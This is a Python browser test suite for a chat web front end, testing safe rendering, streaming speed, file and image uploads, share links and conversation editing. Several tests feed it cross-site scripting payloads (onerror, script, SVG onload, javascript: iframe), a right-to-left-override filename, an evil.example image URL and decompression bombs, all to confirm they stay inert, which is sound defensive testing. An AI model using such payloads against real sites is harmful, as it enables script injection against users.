def test_page_hostile_text_stays_text_wherever_it_comes_from(
        page_relay, page_provider, page_tab):
    attack = "<img src=x onerror=pwned=1>"
    page_relay.change("Demo", operator=attack, comment=attack, suggestions=[attack])
    tab = page_tab().open("/")
    tab.shows(attack, ".card")
    tab.tab.click(".card a")
    tab.shows(attack, ".suggestions")
    page_give(tab, "drop", (attack + "\u202etxt.exe", "", PAGE_HOSTILE.encode()))
    tab.say(PAGE_HOSTILE)
    job = page_provider.next()
    job.push({"reasoning": PAGE_HOSTILE}, {"tool_calls": [
        {"index": 0, "function": {"name": attack, "arguments": PAGE_HOSTILE}}]})
    for n in range(0, len(PAGE_HOSTILE), 400):           # half an attack is one, too
        job.push(*re.findall("(?s).{1,7}", PAGE_HOSTILE[n:n + 400]))
    job.done({"finish_reason": attack})
    tab.idle()
    tab.shows("<iframe src=javascript:pwned=1>")
    tab.tab.evaluate("document.querySelectorAll('.message details').forEach((d) => d.open = true)")
    tab.shows("U+202E", ".code pre")
    links = tab.tab.evaluate("[...document.querySelectorAll('.md a')].map((a) => a.href)")
    assert links and all(re.match("(https://|mailto:a@)(evil|ok).example/?", link)
                         for link in links)
    page_is_unharmed(tab)
    tab.expects_trouble = True
    tab.say("And now?")
    page_provider.next().fail(PAGE_HOSTILE[:2000])
    tab.shows("The model could not answer:", ".trouble")
    page_is_unharmed(tab)


def test_page_takes_a_line_of_a_megabyte(page_browser, page_provider, page_tab):
    tab = page_tab().open()
    for line in ("x" * (1 << 20), "```\n" + "y " * (1 << 19) + "\n```\n"):
        tab.say("Big")
        page_provider.next().done(line)
        tab.idle()
        tab.eventually("(n) => document.querySelector('.last .md').textContent.length >= n",
                       (1 << 20) - 10)
        page_browser.start_tracing(page=tab.tab, categories=["toplevel"])
        tab.tab.fill("#input", "still awake")
        tab.tab.evaluate("new Promise(requestAnimationFrame)")
        assert page_longest_task(page_browser.stop_tracing()) < 1000
        assert tab.wide() == []


def page_long_answer():
    """Fifty thousand characters of all that Markdown has, as tokens."""
    parts = ["", PAGE_SAMPLE]
    parts.append("\n".join("- item %d with **bold** and `code`" % n for n in range(250)))
    parts.append("```python\n" + "".join(
        'def f%d(x):  # comment\n    return "text %d", x + %d\n' % (n, n, n)
        for n in range(150)) + "```")
    parts.append("\n".join(["| a | b | c |", "|---|---|---|"] + [
        "| %d | **b%d** | c |" % (n, n) for n in range(200)]))
    parts.append("A long paragraph of *many* words goes on. " * 300)
    text = "\n\n".join(parts)
    while len(text) < 50000:
        text += "\n\nA paragraph, `code`, **bold**, [link](https://a.example). " * 3
    return re.findall(r"[\s\S]{1,6}", text)


def page_longest_task(trace):
    """CPU milliseconds of the page's longest task: what waiting for others leaves out."""
    events = json.loads(trace)["traceEvents"]
    mains = {(e["pid"], e["tid"]) for e in events if e.get("name") == "thread_name"
             and e["args"]["name"] == "CrRendererMain"}
    return max(e.get("tdur", 0) for e in events if e.get("ph") == "X"
               and (e["pid"], e["tid"]) in mains) / 1000


def test_page_streams_fifty_thousand_characters_smoothly(
        page_browser, page_provider, page_tab):
    pieces = page_long_answer()
    tab = page_tab().open()
    tab.tab.evaluate("""() => { window.frames_ = []; let last = performance.now();
        const tick = (now) => { frames_.push(now - last); last = now;
          requestAnimationFrame(tick); };
        requestAnimationFrame(tick); }""")
    longest = []
    while len(longest) < 2:
        tab.tab.click("#new")
        tab.say("A long answer")
        job = page_provider.next()
        tab.tab.evaluate("frames_.length = 0")
        page_browser.start_tracing(page=tab.tab, categories=["toplevel"])

        def stream(job=job):
            for n in range(0, len(pieces), 12):          # about 1,000 tokens a second
                job.push(*pieces[n:n + 12])
                time.sleep(0.01)
            job.done()
        thread = threading.Thread(target=stream)
        thread.start()
        tab.tab.wait_for_selector("#stop:visible")
        tab.tab.wait_for_selector("#send:visible", timeout=6 * PAGE_WAIT)
        thread.join()
        tab.eventually("(n) => document.querySelector('.last .md').textContent.length > n",
                       35000)                            # what is left without markup
        longest.append((tab.tab.evaluate("Math.max(...frames_)"),
                        page_longest_task(page_browser.stop_tracing())))
        # A busy machine makes frames late; then what the page itself took must be short.
        if longest[-1][0] < 100 or longest[-1][1] < 50:
            return
    raise AssertionError("the longest frames, and tasks, took %s ms" % longest)


# 6. Images and files


def page_says(tab, name="Demo", **fields):
    """Have the relay say this too of a service."""
    def models(route):
        answer = route.fetch()
        route.fulfill(response=answer, json=[
            dict(model, **(fields if model["name"] == name else {}))
            for model in answer.json()])
    tab.tab.route("**/api/models", models)


def page_png(width, height, row=None):
    """row: one of black and white, for all, instead of colours."""
    rows = row * height if row else b"".join(
        b"\0" + bytes(c for x in range(width) for c in (x & 255, y & 255, 90))
        for y in range(height))
    depth = (1, 0) if row else (8, 2)
    chunks = ((b"IHDR", struct.pack(">2I5B", width, height, *depth, 0, 0, 0)),
              (b"IDAT", zlib.compress(rows)), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in chunks)


PAGE_GIVE = """([how, where, files]) => {       // as if files were pasted or dropped there
    const transfer = new DataTransfer(), element = document.querySelector(where);
    for (const [name, type, text] of files) {
        const bytes = Uint8Array.from(atob(text), (c) => c.charCodeAt(0));
        if (name) transfer.items.add(new File([bytes], name, {type}));
        else transfer.setData("text/plain", new TextDecoder().decode(bytes));
    }
    const event = new Event(how, {bubbles: true, cancelable: true});
    // Firefox gives a pasting event of a script's own making no files: so it gets them here.
    Object.defineProperty(event, how === "paste" ? "clipboardData" : "dataTransfer",
        {value: transfer});
    element.dispatchEvent(event);
}"""


def page_give(tab, how, *files):
    tab.tab.evaluate(PAGE_GIVE, [how, "#input", [
        [name, kind, base64.b64encode(data).decode()] for name, kind, data in files]])


def page_file(name, kind, data):
    return {"name": name, "mimeType": kind, "buffer": data}


@in_each_browser
def test_page_sends_an_image_scaled_and_keeps_it(page_provider, page_tab):
    tab = page_tab().open()
    tab.tab.set_input_files("#choose", page_file("wide.png", "image/png", page_png(3000, 300)))
    tab.tab.wait_for_selector("#files img")
    tab.say("What is this?")
    image, text = page_provider.next().request["messages"][0]["content"]
    assert text == {"type": "text", "text": "What is this?"}
    assert image["type"] == "image_url"
    assert re.match("data:image/(png|jpeg);base64,", image["image_url"]["url"])
    assert tab.tab.evaluate("async (src) => { const i = new Image(); i.src = src; "
                            "await i.decode(); return [i.width, i.height]; }",
                            image["image_url"]["url"]) == [1568, 157]
    tab.tab.reload()
    tab.tab.wait_for_selector(".message.user img")
    assert tab.tab.evaluate("violations") == []


# It takes as long as window.held is true to read an image.
PAGE_HELD_IMAGES = """() => { const make = createImageBitmap; window.held = true;
    window.createImageBitmap = async (...all) => {
        while (held) await new Promise((done) => setTimeout(done, 10));
        return make(...all); }; }"""


@in_each_browser
def test_page_sends_no_message_before_its_files_are_read(page_provider, page_tab):
    tab = page_tab().open()
    tab.tab.evaluate(PAGE_HELD_IMAGES)
    page_give(tab, "drop", ("a.png", "image/png", page_png(8, 8)), ("b.txt", "", b"Bee"))
    tab.say("What is this?")
    tab.shows("a.png", "#files")
    assert tab.tab.input_value("#input") == "What is this?"
    tab.tab.evaluate("window.held = false")
    image, text = tab.prompt(page_provider).request["messages"][0]["content"]
    assert image["type"] == "image_url"
    assert text["text"] == "b.txt (1 kB):\n```txt\nBee\n```\n\nWhat is this?"
    assert tab.tab.input_value("#input") == "" and not tab.tab.query_selector("#files .file")


@in_each_browser
def test_page_sends_no_message_without_a_file_that_it_cannot_read(page_provider, page_tab):
    tab = page_tab().open()
    tab.tab.evaluate(PAGE_HELD_IMAGES)
    page_give(tab, "drop", ("a.png", "image/png", page_png(8, 8)), ("x.bin", "", b"\xff\xfe\0"))
    tab.say("What are these?")
    tab.tab.evaluate("window.held = false")
    tab.shows("x.bin is neither a text nor an image", ".toast")
    tab.eventually("document.querySelectorAll('#files .file').length === 1")
    assert tab.tab.input_value("#input") == "What are these?"
    tab.tab.press("#input", "Enter")
    image, text = tab.prompt(page_provider).request["messages"][0]["content"]
    assert (image["type"], text["text"]) == ("image_url", "What are these?")


@in_each_browser
def test_page_keeps_files_with_the_draft_for_which_they_were_chosen(page_provider, page_tab):
    tab = page_tab().open()
    page_talk(tab, page_provider, "One", "Un")
    tab.tab.evaluate(PAGE_HELD_IMAGES)
    page_give(tab, "drop", ("b.txt", "", b"Bee"), ("a.png", "image/png", page_png(8, 8)))
    tab.eventually("document.querySelectorAll('#files .file').length === 2")
    tab.tab.click("#new")
    tab.tab.wait_for_selector(".hello")
    tab.tab.evaluate("window.held = false")
    tab.say("Two")
    assert page_contents(tab.prompt(page_provider)) == ["Two"]
    tab.tab.click(".pick:has-text('One')")
    tab.tab.wait_for_selector("#files img")
    tab.tab.click("[aria-label='Remove b.txt']")
    tab.eventually("document.querySelectorAll('#files .file').length === 1")


def test_page_exports_images_with_their_conversation(page_provider, page_tab, tmp_path):
    tab = page_tab().open()
    page_give(tab, "drop", ("a.png", "image/png", page_png(8, 8)))
    tab.tab.wait_for_selector("#files img")
    tab.say("What is this?")
    image, _ = page_provider.next().request["messages"][0]["content"]
    tab.tab.click("#open-export")
    with tab.tab.expect_download() as download:
        tab.tab.click("#export-json")
    download.value.save_as(tmp_path / "all.json")
    assert image["image_url"]["url"] in (tmp_path / "all.json").read_text()


@in_each_browser
@pytest.mark.parametrize("how", ["paste", "drop"])
def test_page_takes_files_that_are_pasted_or_dropped(page_provider, page_tab, how):
    tab = page_tab().open()
    page_give(tab, how, ("a.png", "image/png", page_png(8, 8)), ("b.txt", "", b"Bee"))
    tab.tab.wait_for_selector("#files .file.text")
    tab.tab.click("[aria-label='Remove a.png']")
    tab.eventually("document.querySelectorAll('#files .file').length === 1")
    tab.tab.click("#send")
    assert page_provider.next().request["messages"][0]["content"] == \
        "b.txt (1 kB):\n```txt\nBee\n```"


def test_page_says_before_sending_that_a_model_cannot_see(page_provider, page_tab):
    tab = page_tab()
    page_says(tab, vision=False)
    tab.open()
    page_give(tab, "paste", ("a.png", "image/png", page_png(8, 8)))
    tab.shows("Demo cannot see images", ".toast")
    assert not tab.tab.query_selector("#files .file")
    tab.tab.unroute_all()
    page_says(tab, vision=None)
    tab.news()


@in_each_browser
def test_page_folds_text_files_and_refuses_what_it_cannot_read(page_provider, page_tab):
    tab = page_tab().open()
    page_give(tab, "drop", ("notes.md", "text/markdown", b"# Hi\n```\ncode\n```\n"),
              ("x.bin", "", b"\xff\xfe\0"))
    tab.shows("x.bin is neither a text nor an image", ".toast")
    tab.say("Read this")
    assert page_provider.next().request["messages"][0]["content"] == \
        "notes.md (1 kB):\n````md\n# Hi\n```\ncode\n```\n````\n\nRead this"
    tab.shows("notes.md", ".message.user details summary")
    assert not tab.tab.is_visible(".message.user pre")   # folded
    tab.tab.click(".message.user summary")
    tab.shows("# Hi", ".message.user pre")


@in_each_browser
def test_page_says_why_it_takes_no_file_and_what_to_do(page_tab):
    """An image may unfold to gigabytes: browsers stood still for it, for up to 20 s."""
    files = [
        ("bomb", page_png(16000, 12000, b"\0" * 2001), "bomb has 192 million pixels"),
        ("x\u202ey", b"", "xy is empty"), ("tale", b"Gr\xfc\xdfe", "plain text (UTF-8)"),
        ("photo", b"\0\0\0\x18ftypheic\0\0\0\0", "Save it as JPEG"),
        ("cut", b"\x89PNG\r\n\x1a\n cut off", "Save it as JPEG"),
        ("big", b"x" * (2 << 20) + b"x", "big is too large")]
    tab = page_tab().open()
    for name, data, words in files:
        page_give(tab, "drop", (name, "", data))
        tab.shows(words, ".toast:last-child")
    assert not tab.tab.query_selector("#files .file")


PAGE_PHOTO = base64.b64decode(          # 32 x 16, the left half red, stored lying on its side
    "/9j/4AAQSkZJRgABAQAAAQABAAD/4QA2RXhpZgAATU0AKgAAAAgAAgEPAAIAAAAHAAAAJgESAAMAAAABAAYAAAAA"
    "AABTRUNSRVQAAP/bAEMAGxIUFxQRGxcWFx4cGyAoQisoJSUoUTo9MEJgVWVkX1VdW2p4mYFqcZBzW12FtYaQnqOr"
    "ratngLzJuqbHmairpP/bAEMBHB4eKCMoTisrTqRuXW6kpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSk"
    "pKSkpKSkpKSkpKSkpKSkpP/AABEIACAAEAMBIgACEQEDEQH/xAAWAAEBAQAAAAAAAAAAAAAAAAAABAX/xAAUEAEA"
    "AAAAAAAAAAAAAAAAAAAA/8QAFQEBAQAAAAAAAAAAAAAAAAAABgP/xAAUEQEAAAAAAAAAAAAAAAAAAAAA/9oADAMB"
    "AAIRAxEAPwDCAJEVwAeVP//Z")


@in_each_browser
def test_page_sends_photos_upright_and_without_the_place_where_they_were_taken(
        page_provider, page_tab):
    assert b"Exif" in PAGE_PHOTO and b"SECRET" in PAGE_PHOTO
    tab = page_tab().open()
    page_give(tab, "drop", ("a wrong name.txt", "text/plain", PAGE_PHOTO))
    tab.tab.wait_for_selector("#files img")
    tab.tab.click("#send")
    url = page_provider.next().request["messages"][0]["content"][0]["image_url"]["url"]
    assert tab.tab.evaluate("""async (src) => {
        const image = new Image(), context = document.createElement("canvas").getContext("2d");
        image.src = src;
        await image.decode();
        context.drawImage(image, 0, 0);
        const [red, , blue] = context.getImageData(2, 8, 1, 1).data;
        return [image.width, image.height, red > 200, blue < 50]; }""", url) == [32, 16, True, True]
    data = base64.b64decode(url.partition(",")[2])
    assert b"Exif" not in data and b"SECRET" not in data


def test_page_says_what_to_do_with_a_folder(page_tab, tmp_path):
    tab = page_tab().open()
    x, y = tab.tab.evaluate("""() => { const box = document.querySelector("#input")
        .getBoundingClientRect(); return [box.x + 9, box.y + 9]; }""")
    devtools = tab.tab.context.new_cdp_session(tab.tab)
    for kind in ("dragEnter", "dragOver", "drop"):
        devtools.send("Input.dispatchDragEvent", {"type": kind, "x": x, "y": y, "data": {
            "items": [], "files": [str(tmp_path)], "dragOperationsMask": 1}})
    tab.shows("If it is a folder, add the files in it", ".toast")


def test_page_reads_texts_as_windows_writes_them(page_provider, page_tab):
    tab = page_tab().open()
    page_give(tab, "drop", *[(encoding + ".txt", "", "\ufeffGr\u00fc\u00dfe\r\n2".encode(encoding))
                             for encoding in ("utf-16-le", "utf-16-be", "utf-8")])
    tab.eventually("document.querySelectorAll('#files .file.text').length === 3")
    tab.tab.click("#send")
    content = page_provider.next().request["messages"][0]["content"]
    assert content.count("```txt\nGr\u00fc\u00dfe\n2\n```") == 3


def test_page_sends_a_file_with_many_backticks(page_provider, page_tab):
    tab = page_tab().open()
    page_give(tab, "drop", ("ticks.md", "text/markdown", b"`` ` " * 200000 + b"`````"))
    tab.tab.wait_for_selector("#files .file.text")
    tab.say("Count them")
    content = page_provider.next().request["messages"][0]["content"]
    assert content.endswith("`````\n``````\n\nCount them")


def test_page_says_once_that_there_are_too_many_files(page_tab):
    tab = page_tab().open()
    page_give(tab, "drop", *[("%d.txt" % n, "text/plain", b"x") for n in range(40)])
    tab.shows("at most 10 files", ".toast")
    tab.eventually("document.querySelectorAll('#files .file').length === 10")
    assert len(tab.tab.query_selector_all(".toast")) == 1


def test_page_stays_fast_when_300_000_characters_are_pasted(
        page_browser, page_provider, page_tab):
    tab = page_tab().open()
    page_give(tab, "paste", ("", "", b"words and words " * 18750))
    tab.tab.wait_for_selector("#files .file.text")
    tab.tab.focus("#input")
    longest = []
    while len(longest) < 3 and min(longest, default=50) >= 50:    # the machine may be busy
        tab.tab.fill("#input", "")
        page_browser.start_tracing(page=tab.tab, categories=["toplevel"])
        tab.tab.keyboard.type("Sum it up, please")
        longest.append(page_longest_task(page_browser.stop_tracing()))
    assert min(longest) < 50, longest
    tab.tab.keyboard.press("Enter")
    content = page_provider.next().request["messages"][0]["content"]
    assert len(content) > 300000 and content.endswith("\n\nSum it up, please")


# 7. Conversations


def page_talk(tab, provider, question, reply, shown=None):
    tab.say(question)
    tab.prompt(provider).done(reply)
    tab.shows(shown or reply)
    tab.idle()


def page_begin(tab, provider):
    """The job of a prompt whose answer has begun with "1, 2"."""
    tab.say("Count")
    job = tab.prompt(provider)
    job.push("1, 2")
    tab.shows("1, 2")
    return job


def page_more(tab, where, item):
    """Choose from the menu below a message."""
    tab.tab.hover(where)
    tab.tab.click(where + " [aria-label=More]")
    tab.tab.click(where + " .items >> text=" + item)


@in_each_browser
def test_page_edits_an_answer_as_another_version(page_provider, page_tab):
    tab = page_tab().open()
    page_talk(tab, page_provider, "Name a colour", "Red")
    tab.tab.click(".last [aria-label='Edit the answer']")
    tab.tab.fill(".editing textarea", "Crimson")
    tab.tab.click(".editing >> text=Save")
    tab.shows("Crimson")
    tab.shows("2/2")
    tab.shows("Edited")
    tab.say("Why?")
    assert [m["content"] for m in page_provider.next().request["messages"]] == [
        "Name a colour", "Crimson", "Why?"]


def test_page_keeps_the_thoughts_of_an_answer_that_is_edited(page_provider, page_tab):
    tab = page_tab().open()
    page_talk(tab, page_provider, "One", "<think>Let me see</think>Un", "Un")
    tab.tab.click(".last [aria-label='Edit the answer']")
    tab.tab.fill(".editing textarea", "Eins")
    tab.tab.click(".editing >> text=Save")
    tab.answers("Eins")
    tab.shows("Thoughts")


@in_each_browser
def test_page_keeps_what_follows_an_empty_answer_that_is_asked_for_again(page_provider, page_tab):
    tab = page_tab().open()
    page_talk(tab, page_provider, "One", {"finish_reason": "length"}, "The answer is empty")
    page_talk(tab, page_provider, "Two", "Deux")
    tab.tab.hover(".message:nth-of-type(2)")
    tab.tab.click(".message:nth-of-type(2) [aria-label='Answer again']")
    tab.prompt(page_provider).done("Un")
    tab.answers("Un")
    tab.idle()
    tab.tab.click(".last [aria-label='Previous version']")
    tab.answers("Deux")


def test_page_deletes_a_message_and_what_follows_and_undoes_it(page_provider, page_tab):
    tab = page_tab().open()
    page_talk(tab, page_provider, "One", "Un")
    page_talk(tab, page_provider, "Two", "Deux")
    page_more(tab, ".message.user:nth-of-type(3)", "Delete from here on")
    tab.eventually("document.querySelectorAll('.message').length === 2")
    tab.tab.click("text=Undo")
    tab.shows("Deux")
    page_more(tab, ".message.user:nth-of-type(3)", "Delete from here on")
    tab.tab.reload()
    tab.shows("Un")
    tab.say("Three")
    assert [m["content"] for m in page_provider.next().request["messages"]] == [
        "One", "Un", "Three"]


def test_page_undoes_a_deletion_in_the_conversation_where_it_was(page_provider, page_tab):
    tab = page_tab().open()
    page_talk(tab, page_provider, "Alpha", "Answer A")
    tab.tab.click("#new")
    page_talk(tab, page_provider, "Beta", "Answer B")
    page_more(tab, ".message.user", "Delete from here on")
    undo = tab.tab.query_selector(".toast button")
    tab.tab.click(".pick:has-text('Alpha')")
    tab.answers("Answer A")
    tab.tab.go_back()                                    # the list has no empty conversations
    tab.tab.wait_for_selector(".hello")
    undo.evaluate("(el) => el.click()")                  # even if the notice is gone by now
    tab.answers("Answer B")
    tab.say("Gamma")
    assert page_contents(tab.prompt(page_provider)) == ["Beta", "Answer B", "Gamma"]


def test_page_forks_a_conversation(page_provider, page_tab):
    tab = page_tab().open()
    page_talk(tab, page_provider, "One", "Un")
    page_talk(tab, page_provider, "Two", "Deux")
    first = tab.tab.url
    page_more(tab, ".message:nth-of-type(2)", "Fork from here")
    tab.eventually("document.querySelectorAll('.message').length === 2")
    tab.shows("One (fork)", ".list")
    page_talk(tab, page_provider, "Other", "Autre")
    assert tab.tab.url != first
    tab.tab.goto(first)
    tab.shows("Deux")


def page_link(tab):
    tab.tab.click("#open-link")
    tab.tab.wait_for_selector("#link-text")
    link = tab.tab.text_content("#link-text")
    tab.tab.keyboard.press("Escape")
    return link


def test_page_shares_a_conversation_in_a_links_fragment(page_provider, page_tab):
    tab = page_tab().open()
    page_give(tab, "paste", ("a.png", "image/png", page_png(8, 8)), ("b.txt", "", b"Bee"))
    tab.tab.wait_for_selector("#files .file.text")
    page_talk(tab, page_provider, "Secret *question*", "The **answer**", "The answer")
    link = page_link(tab)
    assert link.startswith(tab.url + "/Demo#s=1.") and len(link) < 600
    other = page_tab().open(link[len(tab.url):])         # another browser
    other.shows("The answer", ".message.last .md strong, .message.last .md")
    other.shows("b.txt", ".message.user summary")
    assert not other.tab.query_selector(".message img")  # images are left out
    other.shows("It is not stored", ".banner")
    assert not other.tab.is_visible("#composer")
    assert not other.tab.query_selector(".list .pick")
    other.tab.click("text=Continue here")
    page_talk(other, page_provider, "And then?", "More")
    assert len(other.tab.query_selector_all(".list .pick")) == 1
    assert not any("question" in (r.post_data or "") for r in other.requests
                   if r.method == "POST" and "/Demo" not in r.url)
    assert not any(link[-20:] in r.url for r in other.requests)


def test_page_exports_a_shared_conversation(page_provider, page_tab, tmp_path):
    tab = page_tab().open()
    page_talk(tab, page_provider, "Alpha", "Answer A")
    link = page_link(tab)
    other = page_tab().open(link[len(tab.url):])
    other.shows("Answer A")
    other.tab.click("#open-export")
    for button in ("#export-md", "#export-json"):
        with other.tab.expect_download() as download:
            other.tab.click(button)
        download.value.save_as(tmp_path / "file")
        assert "Answer A" in (tmp_path / "file").read_text("utf-8")


def test_page_stores_no_shared_conversation_whose_settings_change(page_provider, page_tab):
    tab = page_tab().open()
    page_talk(tab, page_provider, "Alpha", "Answer A")
    link = page_link(tab)
    other = page_tab().open(link[len(tab.url):])
    other.shows("Answer A")
    other.tab.click("#open-settings")
    other.tab.fill("#conversation-system", "Be brief")
    other.tab.keyboard.press("Escape")
    other.tab.click("text=Continue here")
    page_talk(other, page_provider, "And?", "More")
    assert len(other.tab.query_selector_all(".list .pick")) == 1


@pytest.mark.parametrize("how", ["fork", "link", "file", "early file"])
def test_page_shows_a_cut_answer_as_cut_in_each_copy(page_provider, page_tab, tmp_path, how):
    tab = page_tab().open()
    tab.say("List")
    job = tab.prompt(page_provider)
    job.push("Half an ans")
    tab.shows("Half an ans")
    if how != "early file":
        job.fail("out of memory")
        tab.shows("could not answer")
    if how == "fork":
        page_more(tab, ".message.last", "Fork from here")
        tab.shows("This is a copy", ".toast")
        tab.answers("Half an ans")
        return tab.shows("could not answer")
    if how == "link":
        link = page_link(tab)
        other = page_tab().open(link[len(tab.url):])
    else:
        tab.tab.click("#open-export")
        with tab.tab.expect_download() as download:
            tab.tab.click("#export-json")
        download.value.save_as(tmp_path / "file.json")
        other = page_tab().open()
        other.tab.click("#open-export")
        other.tab.set_input_files("#import", tmp_path / "file.json")
        other.shows("1 conversation imported", ".toast")
        other.tab.keyboard.press("Escape")
        other.tab.click(".list .pick")
    other.answers("Half an ans")
    other.shows("Stopped")


def test_page_offers_a_file_for_what_is_too_long_for_a_link(page_provider, page_tab):
    tab = page_tab().open()
    noise = base64.b64encode(random.Random(1).getrandbits(8 * 40000).to_bytes(40000, "big"))
    page_talk(tab, page_provider, "Noise", noise.decode(), noise.decode()[-80:])
    tab.tab.click("#open-link")
    with tab.tab.expect_download() as download:
        tab.tab.click("text=Save as a file")
    assert download.value.suggested_filename == "Noise.json"


def page_packed(said):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packer.compress(said) + packer.flush()
    return "/Demo#s=1." + base64.urlsafe_b64encode(data).decode().rstrip("=")


@pytest.mark.parametrize("link", [
    "/Demo#s=1.nonsense", "/Demo#s=0.e30", "/Demo#s=%00",
    page_packed(b"[" * (20 << 20)), page_packed(b'{"messages": [{"role": "system"}]}')],
    ids=["nonsense", "no-messages", "percent", "bomb", "wrong-role"])
def test_page_says_that_a_share_link_is_damaged(page_relay, page_provider, page_tab, link):
    tab = page_tab()
    tab.tab.goto(page_relay.url + link)
    tab.shows("This link is damaged", ".toast")
    tab.tab.wait_for_selector("#composer:visible")


@in_each_browser
def test_page_hostile_share_link_stays_text(page_relay, page_provider, page_tab):
    said = {"title": "<img src=x onerror=alert(1)>", "messages": [
        {"role": "user", "content": "<script>window.pwned=1</script>", "files": [
            {"kind": "image", "name": "x", "data": "https://evil.example/x.png"},
            {"kind": "image", "name": "x", "data": 'data:image/svg+xml,<svg onload="pwned=1">'},
            {"kind": "image", "name": "x", "data": "data:image/png;base64,AAAA"},
            {"kind": "text", "name": "<b>", "data": "<img src=x onerror='pwned=2'>"}]},
        {"role": "assistant", "content": PAGE_HOSTILE, "stats": {"tokens": "<b>"}, "tools": [
            {"name": "<iframe>", "arguments": "<script>"}, None, 7, {"name": PAGE_ODD}],
         "reasoning": PAGE_ODD, "finish": "constructor"},
        {"role": PAGE_ODD, "content": "x"}, {"role": "constructor", "content": "x"}]}
    tab = page_tab()
    tab.tab.goto(page_relay.url + page_packed(json.dumps(said).encode()))
    tab.shows("<iframe src=javascript:pwned=1>")
    page_is_unharmed(tab)


@in_each_browser
def test_page_sends_the_next_message_after_the_answer(page_provider, page_tab):
    tab = page_tab().open()
    tab.say("First")
    job = page_provider.next()
    job.push("Working ")
    tab.shows("Working")
    tab.say("Second")
    third = "Third" + " and a lot more" * 40
    tab.say(third)
    tab.shows("Third", "#up-next")
    assert tab.wide() == []
    tab.tab.click("#up-next li:nth-child(2) >> text=Take back")
    assert tab.tab.input_value("#input") == third
    assert page_provider.arrived.empty()
    job.done("done.")
    job = tab.prompt(page_provider)
    assert [m["content"] for m in job.request["messages"]] == [
        "First", "Working done.", "Second"]
    tab.eventually("document.querySelector('#up-next').hidden")
    tab.say("Fourth")
    tab.tab.reload()                                     # what waits is kept
    tab.shows("Fourth", "#up-next")
    job.done("Yes.")
    assert tab.prompt(page_provider).request["messages"][-1]["content"] == "Fourth"


@in_each_browser
def test_page_sends_the_next_message_below_the_answer_that_it_waited_for(page_provider, page_tab):
    tab = page_tab().open()
    page_talk(tab, page_provider, "One", "Un")
    tab.edit("Uno")
    tab.tab.click(".editing button:text('Send')")
    job = tab.prompt(page_provider)
    job.push("Ei")
    tab.shows("Ei")
    tab.say("And now?")
    tab.shows("And now?", "#up-next")
    tab.tab.hover(".message.user")
    tab.tab.click(".message.user [aria-label='Previous version']")
    tab.answers("Un")
    job.done("ns")
    assert page_contents(tab.prompt(page_provider)) == ["Uno", "Eins", "And now?"]


def test_page_keeps_the_next_message_when_the_answer_is_stopped(page_provider, page_tab):
    tab = page_tab().open()
    tab.say("First")
    page_provider.next().push("Working ")
    tab.shows("Working")
    tab.say("Second")
    tab.tab.click("#stop")
    tab.shows("Stopped")
    assert page_provider.arrived.empty()
    tab.tab.click("#up-next >> text=Send now")
    assert tab.prompt(page_provider).request["messages"][-1]["content"] == "Second"


def test_page_lists_the_conversations_of_all_services(page_relay, page_provider, page_tab):
    page_relay.add("Other")
    other = PageProvider(page_relay, "Other")
    tab = page_tab().open()
    page_talk(tab, page_provider, "About cats", "They purr")
    tab.tab.click(".picker summary")
    tab.tab.click(".picker .items >> text=Other")
    tab.eventually("location.pathname === '/Other'")
    page_talk(tab, other, "About dogs", "They bark")
    assert tab.tab.eval_on_selector_all(".list h2", "all => all.map((el) => el.textContent)") \
        == ["Other", "Demo"]
    tab.tab.click(".list .pick >> text=About cats")
    tab.shows("They purr")
    assert tab.tab.evaluate("location.pathname") == "/Demo"
    tab.tab.goto(tab.tab.url.replace("/Demo", "/Other"))     # somebody changed the name
    tab.shows("They purr")
    assert tab.tab.evaluate("location.pathname") == "/Demo"
    tab.say("Still Demo?")
    assert tab.prompt(page_provider).request["messages"][-1]["content"] == "Still Demo?"
    other.leave()


def test_page_offers_the_operators_suggestions(page_provider, page_tab):
    tab = page_tab()
    page_says(tab, suggestions=["Tell me a <b>joke</b>", "Two", "Three", "Four", "Five", 6])
    tab.open()
    tab.tab.wait_for_selector(".suggestions button")
    assert len(tab.tab.query_selector_all(".suggestions button")) == 4
    tab.tab.click(".suggestions button >> nth=0")
    assert tab.tab.input_value("#input") == "Tell me a <b>joke</b>"


def test_page_lets_operators_suggest_prompts(page_relay, page_tab):
    tab = page_tab().open("/")
    tab.tab.click("#open-share")
    tab.tab.fill("#share-name", "My-Llama")
    tab.tab.fill("#share-suggestions", "One\n\n Two ")
    tab.tab.click("text=Register the name")
    tab.tab.wait_for_selector("#share-done:visible")
    key = tab.tab.text_content("#share-done code")
    tab.tab.keyboard.press("Escape")
    page_manage(tab, key, "My-Llama")
    assert tab.tab.input_value("#manage-suggestions") == "One\nTwo"
    for words in ("", "Three"):                          # where there are none, too
        tab.tab.fill("#manage-suggestions", words)
        tab.tab.click("#manage-form >> text=Save")
        tab.shows("Saved.", ".toast")
        tab.open("/")
        page_manage(tab, key, "My-Llama")
        assert tab.tab.input_value("#manage-suggestions") == words
    tab.open("/My-Llama")
    tab.shows("Three", ".suggestions button")


PAGE_VOICE = """Object.defineProperty(window, "speechSynthesis", {value: {
    speak(speech) { window.speech = speech; },
    cancel() { const {speech} = window; window.speech = null; speech?.onerror?.(); }}});"""


def test_page_reads_no_answer_aloud_that_was_left(page_provider, page_tab):
    tab = page_tab()
    tab.tab.add_init_script(PAGE_VOICE)
    tab.open()
    page_talk(tab, page_provider, "One", "Un")
    for leave in ("#new", ".side .mark"):
        page_more(tab, ".message.last", "Read aloud")
        tab.eventually("window.speech.text === 'Un'")
        tab.tab.click(leave)
        tab.eventually("!window.speech")
        tab.tab.go_back()
        tab.answers("Un")


def test_page_keeps_no_temporary_conversation(page_provider, page_tab):
    tab = page_tab().open()
    tab.tab.check("#temporary")
    page_talk(tab, page_provider, "Between us", "Yes")
    tab.shows("This conversation is not kept", ".banner")
    assert "#" not in tab.tab.url
    tab.tab.click("#new")
    tab.tab.click("text=Temporary conversation")         # as long as the tab is there
    tab.shows("Yes")
    tab.tab.reload()
    tab.tab.wait_for_selector(".hello")
    assert not tab.tab.query_selector(".list .pick")
    tab.tab.check("#temporary")
    page_talk(tab, page_provider, "Worth it", "Indeed")
    tab.tab.click("text=Keep it")
    tab.tab.reload()
    tab.shows("Indeed")


@in_each_browser
def test_page_keeps_no_draft_of_a_temporary_conversation(page_provider, page_tab):
    tab = page_tab().open()
